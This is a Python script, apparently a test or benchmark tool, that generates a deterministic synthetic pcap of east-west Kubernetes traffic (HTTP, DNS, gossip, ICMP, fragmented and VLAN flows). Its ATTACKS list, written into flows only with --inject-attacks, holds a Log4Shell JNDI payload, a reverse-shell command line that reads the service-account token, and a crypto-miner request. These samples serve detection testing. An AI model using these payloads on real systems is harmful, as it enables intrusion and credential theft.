#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Generate a deterministic synthetic east-west capture (pcap, Ethernet).

Traffic between pod addresses in 10.244.0.0/16 (and fd00:10:244::/64 for the
dual-stack share): HTTP-like TCP connections with handshake, keep-alive
requests of 200-800 bytes, responses of 1 KB to 1 MB in MSS-sized segments
with delayed ACKs and a FIN teardown; DNS (A + AAAA) to the cluster DNS
service 10.96.0.10:53; memberlist-style UDP gossip; ICMP echo; long-lived
connections picked up mid-stream (no handshake, no FIN); a small share of
VLAN-tagged flows and of fragmented UDP datagrams. --every-kind starts with
one flow of each kind plus three with idle time that exercise flow timeouts
(UDP silent 45 s, TCP keep-alive idle 40 s, a TCP client port reused 15 s
after a close); their last packets come after --packets, past the idle time.

Packets are packed with struct, not scapy: scapy costs ~100 us a packet and a
benchmark capture has millions. Checksums are valid and cheap: the one's
complement sum of 16-bit words equals the big-endian integer value of the
bytes modulo 0xffff (2^16 = 1 mod 0xffff), so int.from_bytes() does the
summing in C.

Same arguments, same bytes: the only randomness is random.Random(--seed), and
timestamps start at a fixed epoch and advance by packet count.

  gen_eastwest.py -o out.pcap [--packets N] [--flows N] [--seed N]
                  [--inject-attacks [N]] [--every-kind] [--max-response BYTES]
"""

import argparse
import heapq
import itertools
import math
import random
import struct
import sys

MSS = 1460
EPOCH = 1767225600          # 2026-01-01T00:00:00Z: timestamps do not depend on the clock
DNS_SVC = bytes([10, 96, 0, 10])

# Kinds of flows and their share of new flows (weights).
KINDS = [
    ("http", 66),
    ("dns", 20),
    ("gossip", 5),
    ("icmp", 2),
    ("midstream", 3),
    ("http6", 3),
    ("frag", 1),
]
VLAN_SHARE = 0.02           # share of flows (any kind) carried on a VLAN tag

ATTACKS = [
    # name, server port, client's first bytes (the flow head)
    ("log4shell", 8080,
     b"GET /api/v1/login HTTP/1.1\r\nHost: %s:8080\r\n"
     b"User-Agent: ${jndi:ldap://10.244.7.66:1389/Basic/Command/Base64/aWQ=}\r\n"
     b"Accept: */*\r\n\r\n"),
    ("revshell", 4444, b"/bin/sh -i\nid; uname -a; cat /var/run/secrets/kubernetes.io/"
     b"serviceaccount/token\n"),
    ("miner", 3333,
     b'{"id":1,"jsonrpc":"2.0","method":"mining.subscribe","params":["xmrig/6.21.0"]}\n'),
]


def csum_fold(x):
    """Internet checksum from x = sum of big-endian integer values of 16-bit aligned parts."""
    r = x % 0xffff
    return 0xffff - r if r else 0


def int_of(b):
    """Integer whose value mod 0xffff is the one's complement sum of b (padded to even)."""
    v = int.from_bytes(b, "big")
    return v << 8 if len(b) & 1 else v


class Host:
    __slots__ = ("ip4", "ip6", "mac", "name")

    def __init__(self, node, idx):
        self.ip4 = bytes([10, 244, node, idx])
        # Dual-stack pods: fd00:10:244:<node>::<idx>
        self.ip6 = bytes.fromhex("fd000010024400%02x00000000000000%02x" % (node, idx))
        # CNI plugins derive the pod MAC from its IPv4 address (0a:58:<ip>).
        self.mac = bytes([0x0a, 0x58]) + self.ip4
        self.name = "pod-%d-%d" % (node, idx)


DNS_HOST = Host(0, 0)
DNS_HOST.ip4 = DNS_SVC
DNS_HOST.mac = bytes([0x0a, 0x58]) + DNS_SVC
DNS_HOST.name = "kube-dns"


class Path:
    """One direction of a flow: headers that never change, and pre-summed checksum parts."""
    __slots__ = ("l2", "src", "dst", "v6", "ip_part", "pseudo", "ipid", "proto")

    def __init__(self, a, b, proto, v6, vlan):
        l2 = b.mac + a.mac
        if vlan:
            l2 += struct.pack("!HH", 0x8100, vlan)
        l2 += struct.pack("!H", 0x86dd if v6 else 0x0800)
        self.l2 = l2
        self.v6 = v6
        self.proto = proto
        self.src = a.ip6 if v6 else a.ip4
        self.dst = b.ip6 if v6 else b.ip4
        # pseudo header without the length: addresses + protocol
        self.pseudo = int_of(self.src) + int_of(self.dst) + proto
        # IPv4 header words that never change: version/IHL/TOS, DF, TTL/proto, addresses
        self.ip_part = 0x4500 + 0x4000 + (64 << 8 | proto) + int_of(self.src) + int_of(self.dst)
        self.ipid = 0

    def ip(self, l4len, proto=None, frag=0):
        """IP header for an L4 payload of l4len bytes; frag = IPv4 flags/offset word."""
        proto = self.proto if proto is None else proto
        if self.v6:
            return struct.pack("!IHBB", 0x60000000, l4len, proto, 64) + self.src + self.dst
        self.ipid = (self.ipid + 1) & 0xffff
        tot = 20 + l4len
        fw = frag if frag else 0x4000
        c = csum_fold(self.ip_part - 0x4000 + fw + tot + self.ipid)
        return struct.pack("!BBHHHBBH", 0x45, 0, tot, self.ipid, fw, 64, proto, c) + \
            self.src + self.dst


class Gen:
    def __init__(self, args):
        self.a = args
        self.rng = random.Random(args.seed)
        rng = self.rng
        self.hosts = [Host(n, i) for n in range(args.nodes) for i in range(2, 2 + args.pods)]
        # A fixed pool of body bytes; responses are slices of it.
        reps = max(2, (2 * args.max_response) // 65536 + 2)
        self.pool = rng.randbytes(65536) * reps
        self.flow_seq = 0
        self.attacks_left = args.inject_attacks
        self.next_attack = args.attack_every
        self.injected = {}
        self.kind_names = [k for k, _ in KINDS]
        self.kind_cum = []
        t = 0
        for _, w in KINDS:
            t += w
            self.kind_cum.append(t)
        self.kind_total = t

    # ---- packet builders --------------------------------------------------
    def tcp(self, p, sport, dport, seq, ack, flags, payload=b"", opts=b"", win=502):
        off = (20 + len(opts)) // 4
        hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off << 4, flags, win, 0, 0) + opts
        l4len = len(hdr) + len(payload)
        c = csum_fold(p.pseudo + l4len + int_of(hdr) + int_of(payload))
        hdr = hdr[:16] + struct.pack("!H", c) + hdr[18:]
        return p.l2 + p.ip(l4len) + hdr + payload

    def udp_dgram(self, p, sport, dport, payload):
        """A whole UDP datagram (header + payload) with its checksum."""
        ulen = 8 + len(payload)
        c = csum_fold(p.pseudo + ulen + (sport << 48 | dport << 32 | ulen << 16) + int_of(payload))
        return struct.pack("!HHHH", sport, dport, ulen, c or 0xffff) + payload

    def udp(self, p, sport, dport, payload):
        d = self.udp_dgram(p, sport, dport, payload)
        return p.l2 + p.ip(len(d)) + d

    def icmp_echo(self, p, typ, ident, seq, data):
        hdr = struct.pack("!BBHHH", typ, 0, 0, ident, seq)
        c = csum_fold(int_of(hdr) + int_of(data))
        return p.l2 + p.ip(8 + len(data)) + struct.pack("!BBHHH", typ, 0, c, ident, seq) + data

    # ---- flows: each is a generator of frames -------------------------------
    def pick_pair(self):
        rng = self.rng
        a = rng.choice(self.hosts)
        b = rng.choice(self.hosts)
        while b is a:
            b = rng.choice(self.hosts)
        return a, b

    def paths(self, a, b, proto, v6, vlan):
        return Path(a, b, proto, v6, vlan), Path(b, a, proto, v6, vlan)

    def response(self, n):
        """HTTP-like response of n bytes (header + body from the pool)."""
        hdr = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % n
        off = self.rng.randrange(0, len(self.pool) - n - 1)
        return hdr + self.pool[off:off + n]

    def request(self, host, head=None):
        rng = self.rng
        if head is not None:
            return head
        n = rng.randint(200, 800)
        req = b"GET /api/v1/items/%d?page=%d HTTP/1.1\r\nHost: %s.default.svc.cluster.local\r\n" \
              b"User-Agent: Go-http-client/1.1\r\nAccept-Encoding: gzip\r\n" % (
                  rng.randrange(100000), rng.randrange(50), host.name.encode())
        pad = n - len(req) - 4
        if pad > 12:
            req += b"X-Trace: " + b"a" * (pad - 11) + b"\r\n"
        return req + b"\r\n"

    def resp_size(self):
        # log-uniform between 1 KB and max_response: most responses are small
        lo, hi = math.log(1024), math.log(max(1024, self.a.max_response))
        return int(math.exp(self.rng.uniform(lo, hi)))

    def send_data(self, src, dst, sport, dport, seq, ack, data, acker=True):
        """Segments of data from src; the receiver ACKs every second segment and the last."""
        n = 0
        for off in range(0, len(data), MSS):
            chunk = data[off:off + MSS]
            yield self.tcp(src, sport, dport, seq[0], ack[0], 0x18 if off + MSS >= len(data) else 0x10,
                           chunk)
            seq[0] = (seq[0] + len(chunk)) & 0xffffffff
            n += 1
            if acker and (n % 2 == 0 or off + MSS >= len(data)):
                yield self.tcp(dst, dport, sport, ack[0], seq[0], 0x10)

    def flow_tcp(self, a, b, v6, vlan, handshake=True, fin=True, dport=None, head=None,
                 cport=None, idle_us=0):
        rng = self.rng
        c2s, s2c = self.paths(a, b, 6, v6, vlan)
        cport = cport or rng.randint(32768, 60999)
        sport = dport or rng.choice((80, 8080, 8443, 9090, 3000, 5000))
        cs = [rng.getrandbits(32)]
        ss = [rng.getrandbits(32)]
        if handshake:
            # MSS 1460, SACK permitted, window scale 7
            opts = b"\x02\x04\x05\xb4\x04\x02\x01\x03\x03\x07"
            opts += b"\x00" * (-len(opts) % 4)
            yield self.tcp(c2s, cport, sport, cs[0], 0, 0x02, b"", opts, 64240)
            cs[0] = (cs[0] + 1) & 0xffffffff
            yield self.tcp(s2c, sport, cport, ss[0], cs[0], 0x12, b"", opts, 65160)
            ss[0] = (ss[0] + 1) & 0xffffffff
            yield self.tcp(c2s, cport, sport, cs[0], ss[0], 0x10)
        nreq = 1 if head is not None else rng.choice((1, 1, 1, 2, 3, 5))
        if idle_us:
            nreq = 2
        for i in range(nreq):
            if i == 1 and idle_us:
                yield idle_us       # keep-alive connection idle between requests
            req = self.request(b, head if i == 0 else None)
            yield from self.send_data(c2s, s2c, cport, sport, cs, ss, req, acker=False)
            resp = self.response(self.resp_size())
            yield from self.send_data(s2c, c2s, sport, cport, ss, cs, resp)
        if fin:
            yield self.tcp(c2s, cport, sport, cs[0], ss[0], 0x11)
            cs[0] = (cs[0] + 1) & 0xffffffff
            yield self.tcp(s2c, sport, cport, ss[0], cs[0], 0x11)
            ss[0] = (ss[0] + 1) & 0xffffffff
            yield self.tcp(c2s, cport, sport, cs[0], ss[0], 0x10)

    def dns_query(self, qid, name, qtype):
        q = b"".join(bytes([len(x)]) + x for x in name.split(b".")) + b"\x00"
        return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)

    def flow_dns(self, a, vlan):
        rng = self.rng
        c2s, s2c = self.paths(a, DNS_HOST, 17, False, vlan)
        cport = rng.randint(32768, 60999)
        name = b"svc-%d.default.svc.cluster.local" % rng.randrange(200)
        for qtype in (1, 28):          # A, then AAAA, from the same socket
            qid = rng.getrandbits(16)
            q = self.dns_query(qid, name, qtype)
            yield self.udp(c2s, cport, 53, q)
            if qtype == 1:
                ans = struct.pack("!HHHIH", 0xc00c, 1, 1, 30, 4) + bytes(
                    [10, 96, rng.randrange(256), rng.randrange(1, 255)])
                r = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q[12:] + ans
            else:
                r = struct.pack("!HHHHHH", qid, 0x8180, 1, 0, 0, 0) + q[12:]
            yield self.udp(s2c, 53, cport, r)

    def flow_gossip(self, a, b, vlan):
        rng = self.rng
        c2s, s2c = self.paths(a, b, 17, False, vlan)
        for _ in range(rng.randint(1, 4)):
            yield self.udp(c2s, 7946, 7946, self.pool[:rng.randint(60, 1200)])
            yield self.udp(s2c, 7946, 7946, self.pool[100:100 + rng.randint(60, 400)])

    def flow_icmp(self, a, b, vlan):
        rng = self.rng
        c2s, s2c = self.paths(a, b, 1, False, vlan)
        ident = rng.getrandbits(16)
        for seq in range(1, rng.randint(2, 5)):
            data = self.pool[:56]
            yield self.icmp_echo(c2s, 8, ident, seq, data)
            yield self.icmp_echo(s2c, 0, ident, seq, data)

    def flow_udp_idle(self, a, b, vlan, idle_us):
        """A one-way UDP datagram, silence for idle_us, then an exchange on the same ports."""
        c2s, s2c = self.paths(a, b, 17, False, vlan)
        cport = self.rng.randint(32768, 60999)
        yield self.udp(c2s, cport, 9000, b"ping")
        yield idle_us
        yield self.udp(c2s, cport, 9000, b"ping")
        yield self.udp(s2c, 9000, cport, b"pong")

    def flow_tcp_reuse(self, a, b, vlan, idle_us):
        """A whole TCP connection, then after idle_us a new one from the same client port."""
        cport = self.rng.randint(32768, 60999)
        yield from self.flow_tcp(a, b, False, vlan, dport=80, cport=cport)
        yield idle_us
        yield from self.flow_tcp(a, b, False, vlan, dport=80, cport=cport)

    def flow_frag(self, a, b, vlan):
        """A UDP request big enough to be fragmented (IPv4, 1480-byte fragments), and a reply."""
        rng = self.rng
        c2s, s2c = self.paths(a, b, 17, False, vlan)
        cport = rng.randint(32768, 60999)
        d = self.udp_dgram(c2s, cport, 8473, self.pool[:rng.randint(2000, 4000)])
        ident = c2s.ipid
        for off in range(0, len(d), 1480):
            part = d[off:off + 1480]
            mf = 0x2000 if off + 1480 < len(d) else 0
            c2s.ipid = ident           # ip() adds one: every fragment carries the same id
            yield c2s.l2 + c2s.ip(len(part), frag=mf | (off // 8)) + part
        yield self.udp(s2c, 8473, cport, b"ok")

    def new_flow(self, kind=None):
        rng = self.rng
        self.flow_seq += 1
        if kind is None:
            x = rng.randrange(self.kind_total)
            kind = next(k for k, c in zip(self.kind_names, self.kind_cum) if x < c)
        vlan = rng.randint(100, 199) if rng.random() < VLAN_SHARE else 0
        a, b = self.pick_pair()
        if self.attacks_left and kind == "http" and self.flow_seq >= self.next_attack:
            self.attacks_left -= 1
            self.next_attack = self.flow_seq + self.a.attack_every
            name, port, head = ATTACKS[self.attacks_left % len(ATTACKS)]
            if b"%s" in head:
                head = head % b.name.encode()
            self.injected[name] = self.injected.get(name, 0) + 1
            return self.flow_tcp(a, b, False, vlan, dport=port, head=head)
        if kind == "http":
            return self.flow_tcp(a, b, False, vlan)
        if kind == "http6":
            return self.flow_tcp(a, b, True, vlan)
        if kind == "vlan":
            return self.flow_tcp(a, b, False, rng.randint(100, 199))
        if kind == "midstream":
            return self.flow_tcp(a, b, False, vlan, handshake=False, fin=False, dport=50051)
        if kind == "dns":
            return self.flow_dns(a, vlan)
        if kind == "gossip":
            return self.flow_gossip(a, b, vlan)
        if kind == "icmp":
            return self.flow_icmp(a, b, vlan)
        if kind == "frag":
            return self.flow_frag(a, b, vlan)
        # Kinds with idle time (packet time jumps): only for small test captures.
        if kind == "udp-idle":        # 45 s > UDP new-flow timeout (30 s): two flows
            return self.flow_udp_idle(a, b, vlan, 45000000)
        if kind == "tcp-idle":        # 40 s < established timeout (300 s): one flow
            return self.flow_tcp(a, b, False, vlan, idle_us=40000000)
        if kind == "tcp-reuse":       # 15 s > closed timeout (10 s): two flows
            return self.flow_tcp_reuse(a, b, vlan, 15000000)
        raise ValueError(kind)

    def run(self, out):
        a = self.a
        rng = self.rng
        first = []
        if a.every_kind:
            first = ["http", "dns", "gossip", "icmp", "midstream", "http6", "vlan", "frag",
                     "udp-idle", "tcp-idle", "tcp-reuse"]
        active = [self.new_flow(first.pop(0) if first else None) for _ in range(a.flows)]
        # pcap header: microsecond timestamps, snaplen 65535, Ethernet
        out.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        buf = []
        t_us = 0
        n = 0
        wire = 0
        pack_rec = struct.Struct("<IIII").pack
        randrange = rng.randrange
        sleepers = []          # (wake time, tie, flow): flows that yielded an idle time
        tie = itertools.count()
        while n < a.packets:
            if sleepers and sleepers[0][0] <= t_us:
                active.append(heapq.heappop(sleepers)[2])
            i = randrange(len(active))
            try:
                frame = next(active[i])
            except StopIteration:
                active[i] = self.new_flow(first.pop(0) if first else None)
                continue
            if type(frame) is int:
                heapq.heappush(sleepers, (t_us + frame, next(tie), active[i]))
                active[i] = self.new_flow(first.pop(0) if first else None)
                continue
            t_us += 1 + randrange(a.gap_us * 2)
            ts = EPOCH * 1000000 + t_us
            ln = len(frame)
            buf.append(pack_rec(ts // 1000000, ts % 1000000, ln, ln))
            buf.append(frame)
            n += 1
            wire += ln
            if len(buf) >= 16384:
                out.write(b"".join(buf))
                buf.clear()
        # Idle flows still owe their last packets: jump packet time to each
        # wake-up and write them (past --packets), so every idle gap shows.
        while sleepers:
            wake, _, fl = heapq.heappop(sleepers)
            t_us = max(t_us, wake)
            for frame in fl:
                if type(frame) is int:
                    heapq.heappush(sleepers, (t_us + frame, next(tie), fl))
                    break
                t_us += 1 + randrange(a.gap_us * 2)
                ts = EPOCH * 1000000 + t_us
                buf.append(pack_rec(ts // 1000000, ts % 1000000, len(frame), len(frame)))
                buf.append(frame)
                n += 1
                wire += len(frame)
        out.write(b"".join(buf))
        return n, wire, t_us


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("-o", "--output", required=True, help="pcap file to write ('-' = stdout)")
    ap.add_argument("--packets", type=int, default=1000000, help="packets to write (1000000)")
    ap.add_argument("--flows", type=int, default=1000, help="concurrent flows (1000)")
    ap.add_argument("--seed", type=int, default=1, help="random seed (1)")
    ap.add_argument("--nodes", type=int, default=16, help="nodes, one /24 of pods each (16)")
    ap.add_argument("--pods", type=int, default=30, help="pods per node (30)")
    ap.add_argument("--max-response", type=int, default=1 << 20,
                    help="largest HTTP response in bytes (1 MiB)")
    ap.add_argument("--gap-us", type=int, default=10,
                    help="mean gap between packets in microseconds (10)")
    ap.add_argument("--inject-attacks", type=int, nargs="?", const=12, default=0, metavar="N",
                    help="put N attack payloads (Log4Shell, reverse shell, miner) in flow heads "
                         "(12 when given without N)")
    ap.add_argument("--attack-every", type=int, default=400,
                    help="inject into the first HTTP flow after every N new flows (400)")
    ap.add_argument("--every-kind", action="store_true",
                    help="start with one flow of every kind, and three with idle time "
                         "(for small test captures)")
    a = ap.parse_args()
    if a.packets < 0 or a.flows < 1 or a.max_response < 1024 or a.gap_us < 1 or \
            not 1 <= a.nodes <= 255 or not 1 <= a.pods <= 250 or a.attack_every < 1:
        ap.error("bad numeric argument")
    g = Gen(a)
    out = sys.stdout.buffer if a.output == "-" else open(a.output, "wb", buffering=1 << 20)
    n, wire, t_us = g.run(out)
    out.flush()
    if out is not sys.stdout.buffer:
        out.close()
    inj = ", ".join("%s %d" % kv for kv in sorted(g.injected.items())) or "none"
    print("gen_eastwest: %d packets, %d bytes on the wire, %.3f s of traffic, %d flows started, "
          "attacks: %s" % (n, wire, t_us / 1e6, g.flow_seq, inj), file=sys.stderr)


if __name__ == "__main__":
    main()
